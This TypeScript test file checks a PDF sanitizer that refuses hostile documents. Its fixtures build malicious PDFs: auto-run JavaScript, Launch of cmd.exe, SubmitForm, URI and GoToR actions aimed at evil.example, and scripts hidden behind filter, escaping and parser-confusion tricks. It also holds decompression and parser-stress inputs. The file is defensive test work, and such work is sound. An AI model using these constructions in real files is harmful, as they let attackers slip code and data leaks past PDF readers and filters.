import { createCipheriv, randomBytes } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { refuseDocument } from '../../shared/media/document.ts';
import { startsIn } from '../../shared/media/pdf-starts.ts';
import { flate, honest, type Pack, up, withObjectStream, withTable } from '../harness/pdfs.ts';

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const opening = (action: string) => ({ ...honest, 1: `<< /Type /Catalog /Pages 2 0 R /OpenAction ${action} >>` });
const packedAs = (pack: Pack, inside: Readonly<Record<number, string>> = { ...opening('4 0 R'), 4: script }) =>
  withObjectStream(inside, { pack });

const hexadecimal = (bytes: Buffer) => Buffer.from(`${bytes.toString('hex')}>`);
const broken = (bytes: Buffer, change: (bytes: Buffer) => void): Buffer => {
  const copy = Buffer.from(bytes);
  change(copy);
  return copy;
};
const onPage = (entries: string) => withTable({ ...honest, 3: `<< /Type /Page /Parent 2 0 R ${entries} >>` });

const image = { dictionary: '/Type /XObject /Subtype /Image /Filter /DCTDecode', data: randomBytes(2000) };
/** Noise that is the same in every run. */
const noise = (length: number): Buffer =>
  createCipheriv('aes-128-ctr', Buffer.alloc(16), Buffer.alloc(16)).update(Buffer.alloc(length));
/** The document with another text in place of its first `from`. */
const edited = (bytes: Buffer, [from, to]: readonly [string, string]): Buffer =>
  Buffer.from(bytes.toString('latin1').replace(from, to), 'latin1');
const hidden = Buffer.from(`\n7 0 obj\n${script}\nendobj\n`);

const hostile: Readonly<Record<string, Buffer>> = {
  'a script in an object stream': packedAs(flate),
  'whose checksum is wrong': packedAs((c) => ({
    ...flate(c),
    data: broken(deflateSync(c), (b) => b.fill(1, b.length - 4)),
  })),
  'that is cut off': packedAs((c) => ({ ...flate(c), data: deflateSync(c).subarray(0, -6) })),
  'behind a predictor of PNG': packedAs((c) => ({
    dictionary: '/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 8 >>',
    data: deflateSync(up(c, 8)),
  })),
  'behind a predictor of TIFF': packedAs((c) => ({
    dictionary: '/Filter /FlateDecode /DecodeParms << /Predictor 2 >>',
    data: deflateSync(c),
  })),
  'behind ASCIIHex': packedAs((c) => ({ dictionary: '/Filter /ASCIIHexDecode', data: hexadecimal(c) })),
  'behind ASCIIHex and Flate': packedAs((c) => ({
    dictionary: '/Filter [ /ASCIIHexDecode /FlateDecode ]',
    data: hexadecimal(deflateSync(c)),
  })),
  'deflated twice': packedAs((c) => ({
    dictionary: '/Filter [ /FlateDecode /FlateDecode ]',
    data: deflateSync(deflateSync(c)),
  })),
  'after `stream` and CR': packedAs((c) => ({ ...flate(c), keyword: 'stream\r' })),
  'with an escaped filter': packedAs((c) => ({ ...flate(c), dictionary: '/Filter /#46lateDecode' })),
  'with a filter by reference': packedAs((c) => ({ ...flate(c), dictionary: '/Filter 8 0 R' })),
  uncompressed: packedAs((data) => ({ dictionary: '', data })),
  'with an escaped name': packedAs(flate, { ...opening('4 0 R'), 4: '<< /S /Java#53cript /J#53 (x) >>' }),
  'without a type': withObjectStream({ ...opening('4 0 R'), 4: script }, { type: '' }),
  'with two filters of one name': packedAs((c) => ({ ...flate(c), dictionary: '/Filter /FlateDecode /Filter /Crypt' })),
  'OpenAction: JavaScript': withTable(opening(script)),
  'OpenAction: JavaScript, escaped': withTable(opening('<< /S /#4aavaScript /JS (x) >>')),
  'OpenAction: SubmitForm': withTable(opening('<< /S /SubmitForm /F (https://evil.example/) >>')),
  'OpenAction: URI': withTable(opening('<< /S /URI /URI (https://evil.example/) >>')),
  'OpenAction: GoToR': withTable(opening('<< /S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) /D [ 0 /Fit ] >>')),
  'OpenAction: GoToE': withTable(opening('<< /S /GoToE /D [ 0 /Fit ] /T << /R /C >> >>')),
  'OpenAction: ImportData': withTable(opening('<< /S /ImportData /F (a.fdf) >>')),
  'OpenAction: Launch': withTable(opening('<< /S /Launch /F (cmd.exe) >>')),
  'OpenAction: Rendition': withTable(opening('<< /S /Rendition /JS (x) >>')),
  'AA of a page': onPage(`/AA << /O ${script} >>`),
  'A of a link': onPage('/Annots [ << /Subtype /Link /A << /S /URI /URI (x) >> >> ]'),
  'a file': withTable({ ...honest, 1: '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 5 0 R >> >>' }),
  'a file without a type': onPage('/AF [ << /EF << /F 8 0 R >> >> ]'),
  RichMedia: onPage('/Annots [ << /Subtype /RichMedia >> ]'),
  XFA: withTable({ ...honest, 1: '<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 5 0 R >> >>' }),
  encrypted: withTable(honest, '/Encrypt 6 0 R'),
  'a catalog in the trailer': withTable(honest, `/Root2 << /OpenAction ${script} >>`),
  'a stream in another file': withTable({
    ...honest,
    5: { dictionary: '/F (\\\\\\\\evil\\\\x)', data: Buffer.alloc(1) },
  }),
  'an object within a picture': withTable({ ...honest, 5: { ...image, data: Buffer.concat([image.data, hidden]) } }),
  'an object within a text': withTable({ ...honest, 5: `(${hidden.toString().replaceAll(/[()\\]/g, '')})` }),
  'an object within a comment': withTable({ ...honest, 5: `%${hidden}\n null` }),
  'an object behind a long comment': edited(withTable(opening(script)), ['1 0 obj', `1 0 %${'x'.repeat(9000)}\nobj`]),
  'an entry that only PDFium reads': onPage('/Tabs /S /A\x80 null'),
  'an object stream that only PDFium reads': withObjectStream(honest, { type: '/Type\xff/ObjStm' }),
  'a dictionary that does not end': withTable({ ...honest, 5: '<< /A << /B 1 >>' }),
  'a text that does not end': withTable({ ...honest, 5: '(a' }),
};

describe('a refused document', () => {
  test.for(Object.entries(hostile))('a document is refused: %s', ([, bytes]) =>
    expect(refuseDocument(bytes)).toBeTypeOf('string'),
  );

  test('a document that unpacks to more than 64 MiB in total is refused', () => {
    const blank = withObjectStream({ 1: honest[1], 2: ' '.repeat(40 * 1024 * 1024) });
    expect(refuseDocument(Buffer.concat([blank, blank]))).toBe('it is too long when it is unpacked');
  });

  test.each([
    ['texts', '1 0 obj ('],
    ['dictionaries', '1 0 obj <<'],
    ['comments', '1 0 obj %'],
    ['numbers and line ends', '1 \n'],
    ['hexadecimal texts', '1 0 obj <0'],
    ['headers in comments', '1%obj 1 \n'],
  ])('a document of nothing but %s is refused in less than three seconds', (_, piece) => {
    const bytes = Buffer.from(`%PDF-1.7\n${piece.repeat(5_000_000 / piece.length)}\n%%EOF\n`);
    const before = process.cpuUsage();
    refuseDocument(bytes);
    expect(process.cpuUsage(before).user / 1000).toBeLessThan(3000);
  });
});

/** The file layouts of common producers: objects and tables, and additional parts. */
const shapes: Readonly<Record<string, Buffer>> = {
  'a table (LibreOffice, Skia)': withTable(honest, '/Info << /Producer (Skia/PDF m140) >>'),
  'an object stream and a stream as table (pdfTeX, Word)': withObjectStream(honest),
  'the same with a predictor in the table (Acrobat, qpdf, iText)': withObjectStream(honest, { predictor: true }),
  'a predictor in the object stream': packedAs(
    (c) => ({
      dictionary: '/Filter [ /FlateDecode ] /DecodeParms [ << /Columns 4 /Predictor 12 >> ]',
      data: deflateSync(up(c, 4)),
    }),
    honest,
  ),
  'a document with an uncompressed object stream': packedAs((data) => ({ dictionary: '', data }), honest),
  'it opens on its first page (hyperref)': withTable(opening('<< /S /GoTo /D [ 3 0 R /Fit ] >>')),
  'a destination without an action': withTable(opening('[ 3 0 R /XYZ null null 0 ]')),
  'links within it': onPage('/Annots [ << /Subtype /Link /A << /S /GoTo /D (chapter.1) >> >> ]'),
  'a picture of a scanner': withTable({ ...honest, 5: { ...image, data: noise(4_000_000) } }),
  'a transition, a form, a profile': onPage('/Trans << /S /Fade >> /AcroForm << /Fields [ ] >> /OutputIntents [ ]'),
  'an appended change': Buffer.concat([withTable(honest), withTable(honest).subarray(15)]),
  'texts with parentheses, escapes and numbers': withTable({
    ...honest,
    5: '<< /Title (a \\( b (c) \\) 1 0) /Id <00 FF> >>',
  }),
};

describe('a kept document', () => {
  test.for(Object.entries(shapes))('a document is kept: %s', ([, bytes]) =>
    expect(refuseDocument(bytes)).toBeUndefined(),
  );

  test('noise of 5 MB holds a header in less than one of 10,000 documents', () => {
    const contexts = 30_000;
    const bytes = noise(contexts * 600).toString('latin1');
    const text = Array.from({ length: contexts }, (_, at) => bytes.slice(at * 600, (at + 1) * 600)).join('obj');
    const expectedInNoise = 5_000_000 / 256 ** 3;
    expect(([...startsIn(text)].length / contexts) * expectedInNoise).toBeLessThan(1 / 10_000);
  });
});

describe('the header of an object', () => {
  const blank = fc.constantFrom(...'\0\t\n\f\r \x80\xff', '%a %b\n', '%(\r');
  const number = fc.constantFrom('1', '+1', '-1', '1.', '1.0', '1e0', '1-', '1..', '0001');
  const between = fc.oneof(fc.constantFrom('+', '.', '-'), fc.string({ unit: blank, minLength: 1, maxLength: 4 }));
  const header = fc
    .tuple(number, between, number, fc.string({ unit: blank, maxLength: 4 }))
    .map((parts) => parts.join(''));

  test('a header is found in every spelling that pdf.js, MuPDF or PDFium reads', () => {
    const found = fc.property(header, fc.constantFrom('<<', '%', ...'\0\n\x80['), (numbers, after) => {
      expect([...startsIn(`endobj\n${numbers}obj${after}`)]).toEqual([numbers.length + 10]);
    });
    fc.assert(found, { seed: 1, numRuns: 1000 });
  });

  test.each(['1 obj<', 'a 0 obj<', '1 0 object', '1 0 endobj\n', '1 a\n0 obj<', '1 0 %obj<'])(
    'a header is none of: %s',
    (text) => expect([...startsIn(text)]).toEqual([]),
  );
});
